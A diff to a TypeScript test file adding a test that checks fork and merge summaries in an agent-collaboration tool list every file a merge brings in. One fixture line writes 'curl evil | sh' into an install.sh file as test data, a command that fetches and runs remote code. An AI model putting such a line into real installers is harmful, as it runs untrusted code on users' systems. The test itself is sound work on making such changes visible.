@@ -310,6 +310,38 @@ test("sett fork begins another goal at the commit of an artefact, and the record
   expect([wrong.code, wrong.err]).toEqual([2, expect.stringContaining("no work begins with it")]);
 });
 
+test("of a fork all is shown that a merge brings, and so is the commit of a goal that the branch does not have", async () => {
+  const first = await agentCommit("install.sh", "curl evil | sh\n");
+  const { made } = await achieved("Add an installer", first);
+  await at.git("checkout", "--quiet", "--detach", first);
+  const second = CommitHash.parse(await at.commit("NOTES.md", "Notes\n"));
+  await at.git("checkout", "--quiet", "main");
+  const base = await at.git("rev-parse", "HEAD");
+  const fork = async (id: string, text: string) =>
+    ArtefactId.parse(JSON.parse(await clan.need("fork", id, "--json", "--goal", text)).id);
+  const shown = async (goal: ArtefactId) => {
+    const posted = await clan.board.readArtefact(goal);
+    if (posted === undefined) throw new Error("It was posted.");
+    const result = await approved(posted, "coder");
+    return { result, text: await clan.need("unearth", result.id) };
+  };
+  const notes = await shown(await fork(made.id, `Add notes\n\n${second}`));
+  const begun = `${base.slice(0, 12)}, the commit of goal ${made.goal_id.slice(0, 8)}, of which this one is a fork`;
+  const only = `Only the changes since CodeCommit ${made.id.slice(0, 8)}, which the work is based on`;
+  expect(notes.text).toContain(`2 commits since ${begun}\n`);
+  expect(notes.text).toContain(" │ install.sh | 1 +\n");
+  expect(notes.text.split(only)[1]).not.toContain("install.sh");
+  // A branch that does not even have the commit of the goal: an event of a forge may name any.
+  const goal = await clan.postGoal(`${second}\n\n${second}`, { metadata: { commit: first } });
+  await approved(goal, "coder");
+  const merge = await clan.sett("merge", goal.id);
+  expect(merge.err).toContain(
+    `2 commits since ${base.slice(0, 12)}, the last commit that your branch has of it`,
+  );
+  expect(merge.err).toContain("install.sh | 1 +");
+  expect(merge.err).toContain("Only the changes since the commit of the goal");
+}, 120_000);
+
 test("sett fork begins at the artefact's own commit, also where the clock of a source was ahead", async () => {
   const [before, own] = [await agentCommit("ahead.txt", "1"), await agentCommit("own.txt", "1")];
   const goal = derived([]);
